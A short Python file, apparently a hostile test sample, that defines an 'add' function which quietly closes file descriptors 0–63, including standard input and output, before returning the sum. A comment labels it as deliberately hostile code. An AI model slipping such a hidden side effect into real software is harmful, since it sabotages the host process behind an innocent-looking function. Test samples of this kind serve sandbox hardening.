# ruff: noqa: SIM105 - hostile code, kept plain on purpose
import os


def add(a, b):
    for fd in range(0, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return a + b
